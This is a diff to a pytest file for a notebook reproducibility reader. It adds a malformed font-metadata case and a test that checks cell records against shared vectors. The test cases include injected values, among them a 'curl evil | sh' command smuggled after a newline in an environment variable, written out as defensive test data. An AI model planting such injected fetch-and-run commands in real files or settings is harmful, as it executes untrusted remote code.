@@ -10,6 +10,7 @@ import json
 import os
 import stat
 import time
+from pathlib import Path
 
 import nbformat
 import pytest
@@ -82,6 +83,15 @@ def _determinism_newline(nb):
         run["determinism"]["env"]["PYTHONHASHSEED"] = "0\nRUN curl evil | sh"
 
 
+def _fonts_where_a_path(nb):
+    for run in nb["metadata"]["nbrepro"]["runs"].values():
+        run["fonts"] = {
+            "matplotlib": [
+                {"family": "sans-serif", "name": "X\nfont.family: evil", "where": "/home/alice"}
+            ]
+        }
+
+
 def _surrogate_name(nb):
     _dist(nb)[0]["name"] = "x\ud800y"
 
@@ -102,6 +112,7 @@ CASES = {
     "channel-urls-a-string": (CONDA, _channel_urls),
     "newline-in-a-determinism-value": (PIP, _determinism_newline),
     "lone-surrogate-in-a-name": (PIP, _surrogate_name),
+    "fonts-where-a-path": (PIP, _fonts_where_a_path),
 }
 
 
@@ -326,6 +337,18 @@ def test_the_door_reads_what_the_old_notebook_reader_read(tmp_path):
     )
     old = document.read_notebook(v3)
     assert old.raw is None and old.nb["nbformat"] == 4 and old.current is None
+
+
+@pytest.mark.parametrize(
+    "name", sorted(p.name for p in (Path(__file__).parents[1] / "vectors" / "cells").glob("*.json"))
+)
+def test_cell_records_read_as_the_shared_vectors_say(name):
+    """The same reading as src/record/document.ts's readCellRecords."""
+    vector = json.loads((Path(__file__).parents[1] / "vectors" / "cells" / name).read_text())
+    problems = []
+    cells = document.code_cells({"cells": vector["cells"]}, problems)
+    assert [cell.record for cell in cells] == vector["expected"]["records"]
+    assert problems == vector["expected"]["problems"]
 
 
 def test_a_cell_record_the_door_cannot_read_is_named_not_dropped_silently():
